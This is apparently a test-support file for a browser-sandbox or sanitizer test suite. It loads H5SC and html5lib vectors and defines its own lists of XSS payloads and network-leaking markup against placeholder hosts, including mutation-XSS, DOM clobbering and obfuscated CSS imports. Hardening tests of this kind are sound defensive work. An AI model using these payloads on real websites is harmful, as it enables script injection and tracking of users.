import { globSync, readFileSync } from 'node:fs'
import { sharedData } from '../../support/shared-data.ts'

/** A page that attacks whoever looks at it. */
export interface HostilePage {
  readonly name: string
  readonly html: string
}

/** What the console of a page says when anything of a hostile page ran. */
export const CANARY = 'ran: 1337'

/** Runs in any place where a script can stand, quoted or not: it holds no quote, no space and no bracket of a tag. */
const TELL = 'console.error(`ran:\\u0020${1337}`)||alert('

/** Shows the canary where a script can stand, in an attribute without quotes too. */
export const RUNS_CANARY = withCanary('alert(1)')

/** The vectors of H5SC, each with the canary in place of its alert. */
export function h5scPages(): readonly HostilePage[] {
  const vectors = JSON.parse(readFileSync(sharedData('security/h5sc/vectors.json'), 'utf8')) as readonly {
    readonly id: number
    readonly vector: string
  }[]
  return vectors.map(({ id, vector }) => ({ name: `h5sc ${id}`, html: withCanary(vector) }))
}

/** What can run or reach out at all; the rest of html5lib's tests is plain markup. */
const ACTIVE = /\bon\w+\s*=|\bsrc|href|frame|<object|<embed|<script|<meta|<link|<base|<form|<svg|<math|<template/i

/** The tree construction tests of html5lib that hold anything active. */
export function html5libPages(): readonly HostilePage[] {
  return globSync(sharedData('security/html5lib-tests/tree-construction/**/*.dat'))
    .toSorted()
    .flatMap((file) => {
      const tests = readFileSync(file, 'utf8').split(/^#data\n/m)
      return tests.slice(1).map((test, index) => ({
        name: `html5lib ${file.split('/').at(-1) ?? ''} ${index}`,
        html: withCanary(test.split(/\n#errors\n/, 1)[0] ?? ''),
      }))
    })
    .filter(({ html }) => ACTIVE.test(html))
}

/**
 * Our own: ways to run script and to reach a network that Chromium knows. Each names `http://NAME.example` of its own and
 * the sentinel's own address, so that an address by number is tried too.
 */
export function ownPages(sentinelPort: number): readonly HostilePage[] {
  const direct = `http://127.0.0.1:${sentinelPort}`
  return [...SCRIPTS.map(withCanary), ...REQUESTS].map((markup, index) => ({
    name: `own ${index}`,
    html: markup.replaceAll('OUT', `http://out-${index}.example`).replaceAll('DIRECT', direct),
  }))
}

function withCanary(markup: string): string {
  return markup.replaceAll('alert(', TELL)
}

/** Everything that runs script; `alert(1)` becomes the canary. */
const SCRIPTS: readonly string[] = [
  '<script>alert(1)</script>',
  '<script type=module>alert(1)</script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script src="OUT/x.js"></script><script src="DIRECT/x.js"></script>',
  '<script type=importmap>{"imports":{"x":"OUT/x.js"}}</script><script type=module>import "x";alert(1)</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["OUT/p"]}]}</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=alert(1)>',
  '<body onload=alert(1) onpageshow=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  '<svg><a href="javascript:alert(1)"><animate attributeName=href values="javascript:alert(1)"/></a><set onbegin=alert(1) attributename=x></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><image href=x onerror=alert(1) /></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math><mi href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1) src=x></video>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>top.alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>alert(1)</script>',
  '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=click()></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>x',
  '<p style="transition:color 1ms;color:red" ontransitionend=alert(1)>x',
  '<button popovertarget=x autofocus>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<xss contenteditable autofocus onfocus=alert(1) tabindex=0>x</xss>',
  '<link rel=stylesheet href="data:text/css,*{color:red}" onload=alert(1)>',
  '<base href="javascript:/a/-alert(1)///"><a href=../x>x</a>',
  '<title><img src=x onerror=alert(1)></title><title></title><script>alert(1)</script>',
  '<textarea></textarea><img src=x onerror=alert(1)><!--</textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<form id=documentElement><input name=attributes><input name=innerHTML></form><img name=cookie src=x onerror=alert(1)>',
  '<a id=location href="javascript:alert(1)" autofocus onfocus=click()>x</a>',
]

/** Everything that asks a network for something without script. */
const REQUESTS: readonly string[] = [
  '<img src="OUT/a.gif"><img src="DIRECT/a.gif">',
  '<img srcset="OUT/a.gif 1x, DIRECT/b.gif 2x" loading=eager>',
  '<picture><source srcset="OUT/a.webp"><img src="DIRECT/a.gif"></picture>',
  '<input type=image src="OUT/a.gif"><input type=image src="DIRECT/a.gif">',
  '<body background="OUT/a.gif"><table background="DIRECT/a.gif"><tr><td>x',
  '<video src="OUT/a.mp4" poster="OUT/a.png" autoplay></video><audio src="DIRECT/a.mp3" autoplay></audio>',
  '<video><source src="OUT/a.mp4"><track default src="DIRECT/a.vtt"></video>',
  '<link rel=stylesheet href="OUT/a.css"><link rel=stylesheet href="DIRECT/a.css">',
  '<style>@import "OUT/a.css";@import url(DIRECT/b.css);</style>',
  '<style>@font-face{font-family:f;src:url(OUT/a.woff2),url(DIRECT/b.woff2)}body{font-family:f}</style><p>text',
  '<p style="background:url(OUT/a.gif);list-style:url(DIRECT/b.gif);display:list-item;cursor:url(OUT/c.cur),auto">x',
  '<style>p{background-image:image-set("OUT/a.gif" 1x);border-image:url(DIRECT/b.gif) 30;mask-image:url(OUT/m.svg#x);filter:url(OUT/f.svg#x)}p::before{content:url(DIRECT/c.gif)}</style><p>x',
  '<link rel=preload as=image href="OUT/a.gif"><link rel=preload as=font crossorigin href="DIRECT/a.woff2">',
  '<link rel=prefetch href="OUT/a"><link rel=prerender href="OUT/b"><link rel=modulepreload href="DIRECT/c.js">',
  '<link rel=dns-prefetch href="OUT"><link rel=preconnect href="OUT"><link rel=preconnect href="DIRECT">',
  '<link rel=icon href="OUT/favicon.ico"><link rel=manifest href="OUT/m.json"><link rel=import href="DIRECT/i.html">',
  '<meta http-equiv=refresh content="0;url=OUT/gone">',
  '<meta http-equiv=refresh content="0;url=DIRECT/gone">',
  '<meta http-equiv=Link content="<OUT/a.css>; rel=stylesheet">',
  '<meta http-equiv=x-dns-prefetch-control content=on><a href="OUT/x">x</a>',
  '<iframe src="OUT/frame"></iframe><iframe src="DIRECT/frame"></iframe>',
  '<iframe srcdoc="<img src=OUT/a.gif><iframe src=DIRECT/f></iframe>"></iframe>',
  '<iframe loading=lazy sandbox="" src="OUT/frame"></iframe><iframe csp="default-src *" src="DIRECT/f"></iframe>',
  '<object data="OUT/o"></object><embed src="DIRECT/e"><applet code="OUT/a.class"></applet>',
  '<object data="OUT/o" type=image/svg+xml><object data="DIRECT/o" type=text/html></object></object>',
  '<frameset><frame src="OUT/f"><frame src="DIRECT/g"></frameset>',
  '<svg><image href="OUT/a.gif"/><image xlink:href="DIRECT/b.gif"/></svg>',
  '<svg><use href="OUT/u.svg#x"/><feImage href="DIRECT/f.gif"/></svg>',
  '<svg><defs><linearGradient id=g href="OUT/g.svg#g"/></defs><rect width=9 height=9 fill="url(DIRECT/g.svg#g)"/></svg>',
  '<svg><style>@import url(OUT/a.css);</style></svg>',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22OUT/a.gif%22/></svg>">',
  '<base href="OUT/"><img src=relative.gif><link rel=stylesheet href=relative.css>',
  '<base href="DIRECT/"><img src=relative.gif><iframe src=relative></iframe>',
  '<form action="OUT/f" method=post target=_top><input name=x value=y><input type=submit autofocus></form>',
  '<a href="OUT/x" ping="OUT/ping" autofocus>x</a>',
  '<html manifest="OUT/cache.manifest"><p>x',
  '<math><mglyph src="OUT/a.gif"></math><img src="//out.example/a.gif"><img src="ftp://out.example/a.gif">',
  '<portal src="OUT/p"></portal><fencedframe src="OUT/f"></fencedframe>',
  '<p style="background:paint(x);src:url(OUT/a)" lang=en><q cite="OUT/q">x</q><bgsound src="DIRECT/b.mid">',
  // Style sheets that lead to others, and addresses written in ways that only a browser reads.
  '<style>@import url("data:text/css,@import url(OUT/a.css);@import %22DIRECT/b.css%22;");</style>',
  '<link rel=stylesheet href="data:text/css,@import url(OUT/a.css) layer(x) supports(display:block) screen;*{color:red}">',
  '<style>@import url(OUT/a.css)layer;@\\69mport "DIRECT/b.css";@import/**/"OUT/c.css"/**/screen;@import \'OUT/d.css\' supports(not (x:y));</style>',
  '<style>p{background:\\75rl(OUT/a.gif);border-image:u\\72 l(DIRECT/b.gif) 30;list-style:URL( "OUT/c.gif" )}</style><p>x',
  '<p style="background:&#117;rl(OUT/a.gif);background-image:url(&quot;DIRECT/b.gif&quot;)">x',
  '<style>@font-face{font-family:g;src:local("none"),url("OUT/a.woff2")format("woff2")tech(variations);unicode-range:U+0-10FFFF}@font-face{font-family:h;src:url(DIRECT/b.ttf)}*{font-family:g,h}</style>text',
  '<style>p{background:-webkit-image-set(url(OUT/a.gif) 1x,url(DIRECT/b.gif) 2x)}q{background:image-set("OUT/c.gif" type("image/gif"),url(DIRECT/d.gif) 2x)}</style><p>x<q>y',
  '<style>p{background:-webkit-cross-fade(url(OUT/a.gif),url(DIRECT/b.gif),50%)}q{background:cross-fade(url(OUT/c.gif) 30%,url(DIRECT/d.gif))}</style><p>x<q>y',
  '<style>p{-webkit-mask-image:url(OUT/a.svg);-webkit-border-image:url(DIRECT/b.gif) 30;-webkit-box-reflect:below 0 url(OUT/c.gif);-webkit-clip-path:url(OUT/d.svg#c);-webkit-filter:url(DIRECT/e.svg#f)}</style><p>x',
  '<style>p{cursor:-webkit-image-set(url(OUT/a.cur) 1x),auto;shape-outside:url(DIRECT/b.png);float:left}p::marker{content:url(OUT/c.gif)}p::first-letter{background:url(DIRECT/d.gif)}</style><p>x',
  '<style>:root{--a:url(OUT/a.gif);--b:"DIRECT/b.gif"}p{background:var(--a)}q{background:image-set(var(--b) 1x)}s{background:image-set(attr(title) 1x)}</style><p>x<q>y<s title="OUT/s.gif">z',
  '<style>@property --c{syntax:"<url>";inherits:true;initial-value:url(OUT/c.gif)}p{background:var(--c)}@container (width>0){p{list-style:url(DIRECT/d.gif)}}@media all{@supports(a:b) or (color:red){p{border-image:url(OUT/e.gif) 9}}}</style><p>x',
  '<style>@namespace x url(OUT/n);@counter-style c{system:cyclic;symbols:url(DIRECT/s.gif)}@document url(OUT/d){p{color:red}}p{background:src("OUT/e.gif");background:image("DIRECT/f.gif")}</style><p>x',
  '<style>p{background:url(OUT/a.gif</style><p>x<style>q{background:url("DIRECT/b.gif</style><q>y',
  '<div style="--x:}</style><img src=OUT/a.gif>">x</div><style>a::before{content:"</style><img src=DIRECT/b.gif>"}</style>',
  // Pictures by every other attribute.
  '<img srcset="data:,x 1x,OUT/a.gif 2x" sizes="(min-width:1px) 1px"><img srcset=",,,DIRECT/b.gif,,, 1x,"><img srcset="OUT/c.gif\t3w,\nDIRECT/d.gif 4w">',
  '<img lowsrc="OUT/a.gif" dynsrc="DIRECT/b.gif" longdesc="OUT/c" usemap="DIRECT/d#m" attributionsrc="OUT/e">',
  '<picture><source media=all type=image/png srcset="OUT/a.png"><source srcset="DIRECT/b.png"><img></picture>',
  // Links that fetch.
  '<link rel="prefetch" as=document href="OUT/a"><link rel="alternate stylesheet preload" as=style title=x href="DIRECT/b.css">',
  '<link rel=preload as=image imagesrcset="OUT/a.gif 1x, DIRECT/b.gif 2x"><link rel=preload as=style href="OUT/c.css"><link rel=preload as=fetch href="DIRECT/d">',
  '<link rel="shortcut icon" href="OUT/a.ico"><link rel=apple-touch-icon href="DIRECT/b.png"><link rel=mask-icon href="OUT/c.svg"><link rel=search href="DIRECT/d.xml"><link rel=pingback href="OUT/e"><link rel=compression-dictionary href="DIRECT/f">',
  '<body><p>x<link rel=stylesheet media="not print" href="OUT/late.css"><link itemprop=x rel=prefetch href="DIRECT/late">',
  // SVG and MathML.
  '<svg><use href="OUT/u.svg#x"/><use xlink:href="DIRECT/v.svg#y"/><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'OUT/w.gif\'/></svg>#x"/></svg>',
  '<svg><image><animate attributeName=href to="OUT/a.gif" dur=1ms fill=freeze /></image><image><set attributeName=href to="DIRECT/b.gif"/></image></svg>',
  '<svg><pattern id=p href="OUT/p.svg#p"/><filter id=f><feImage href="DIRECT/f.gif"/><feImage xlink:href="OUT/g.gif"/></filter><rect width=9 height=9 fill="url(#p)" filter="url(#f)"/><text><textPath href="OUT/t.svg#t">x</textPath></text></svg>',
  '<svg><style><![CDATA[@import "OUT/a.css";rect{fill:url(DIRECT/b.svg#c)}]]></style><rect width=9 height=9 mask="url(OUT/m.svg#m)" clip-path="url(DIRECT/c.svg#c)" marker-end="url(OUT/e.svg#e)"/></svg>',
  '<svg><foreignObject><img src="OUT/a.gif"><style>@import "DIRECT/b.css"</style></foreignObject></svg><svg><font-face><font-face-src><font-face-uri href="OUT/f.woff"/></font-face-src></font-face></svg>',
  '<math href="OUT/a"><mi xlink:href="DIRECT/b">x</mi><mglyph src="OUT/c.gif"/><maction actiontype="statusline#OUT/d" href="DIRECT/e"><mi>y</mi></maction><annotation-xml encoding="text/html"><img src="OUT/f.gif"></annotation-xml></math>',
  '<math><mrow style="background:url(OUT/a.gif)"><mi mathbackground="url(DIRECT/b.gif)">x</mi></mrow></math>',
  // Objects and what stands inside them.
  '<object data="OUT/a.svg" type="image/svg+xml"></object><object type=text/html><param name=src value="DIRECT/b"></object><object codebase="OUT/c" classid="DIRECT/d" archive="OUT/e"></object>',
  "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='OUT/a.gif'/><script href='DIRECT/b.js'/></svg>\"></object>",
  "<embed type=image/svg+xml src=\"data:image/svg+xml,<?xml-stylesheet href='OUT/a.css'?><svg xmlns='http://www.w3.org/2000/svg'><use href='DIRECT/b.svg#x'/></svg>\">",
]
